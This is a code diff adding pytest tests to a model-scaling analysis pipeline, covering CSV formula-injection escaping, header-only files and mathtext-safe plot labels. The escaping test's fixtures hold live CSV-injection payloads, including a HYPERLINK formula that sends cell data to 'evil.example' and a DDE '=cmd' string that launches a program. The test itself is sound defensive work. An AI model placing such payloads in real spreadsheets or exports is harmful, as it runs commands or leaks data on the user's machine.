@@ -1,4 +1,5 @@
 """Bad input gets a clear message naming file, row and column; nothing else is lost."""
+import pandas as pd
 import pytest
 
 from analysis.curves import build_curves
@@ -147,3 +148,51 @@ def test_every_problem_reaches_the_dataset_result(write_csv):
     assert sorted(res.problems["row"].tolist()) == [3, 4]
     assert len(res.points) == 1
     assert res.curves["n_scales"].tolist() == [1]
+
+
+def test_formula_cells_are_neutralised_in_every_results_table(tmp_path):
+    """Issue 13: a family or source that a spreadsheet would run (=, +, -, @, tab, CR) is written with
+    a leading quote in the results CSVs (OWASP); numbers, and other text, are written as they are."""
+    from analysis.pipeline import analyse_dataset, run_combine
+    from analysis.schema import spreadsheet_safe
+    from analysis.settings import Settings
+    frame = pd.DataFrame({"family": ["=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "@SUM(A1)", "GPT-3", "-x"],
+                          "score": [-0.5, 0.2, 0.3, 0.4]})
+    safe = spreadsheet_safe(frame)
+    assert list(safe["family"]) == ["'=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "'@SUM(A1)", "GPT-3", "'-x"]
+    assert list(safe["score"]) == [-0.5, 0.2, 0.3, 0.4]
+    rows = pd.DataFrame({"model": [f"m{i}" for i in range(4)], "family": "=cmd|' /C calc'!A0",
+                         "params": [1e8, 1e9, 1e10, 1e11], "benchmark": "b", "task": "t", "metric": "acc",
+                         "score": [0.3, 0.4, 0.5, 0.6], "n_items": 500, "chance": 0.25, "source": "+evil"})
+    (tmp_path / "d.csv").write_text(rows.to_csv(index=False))
+    s = Settings(bootstrap=20, bootstrap_max=20)
+    analyse_dataset(tmp_path / "d.csv", s).write(tmp_path / "res")
+    outputs = {n: tmp_path / "out" / f"{n}.csv" for n in
+               ("curves", "fits", "points", "problems", "mirage", "cot_gain", "compositional")}
+    run_combine([str(tmp_path / "res")], outputs, s)
+    for name in ("curves", "fits", "points"):
+        text = outputs[name].read_text()
+        assert "\n=cmd" not in text and ",=cmd" not in text and ",+evil" not in text, name
+        assert "'=cmd" in text, name
+
+
+def test_a_header_only_file_is_a_problem_not_a_crash(tmp_path):
+    """Issue 13, 1: a CSV with the header and no rows costs only itself, with a message."""
+    path = tmp_path / "empty.csv"
+    path.write_text("model,family,params,benchmark,task,metric,score,n_items,chance\n")
+    result = analyse_dataset(path, Settings())
+    assert len(result.curves) == 0
+    assert "has a header but no rows" in result.problems["message"].iloc[0]
+
+
+def test_names_are_drawn_as_written_never_as_mathtext():
+    """Issue 13, 4: a task named "$^$" crashed the figures step (matplotlib mathtext)."""
+    import io
+
+    from analysis.plots import capability_map_figure
+    emergent = pd.DataFrame({"label": ["emergent"], "x_axis": ["params"], "emergence_scale": [1e10],
+                             "emergence_scale_low": [1e9], "emergence_scale_high": [1e11], "family": ["F"],
+                             "benchmark": ["b"], "task": ["$^$"], "metric": ["acc"]})
+    buf = io.BytesIO()
+    capability_map_figure(emergent, "params").savefig(buf, format="png")
+    assert buf.tell() > 0
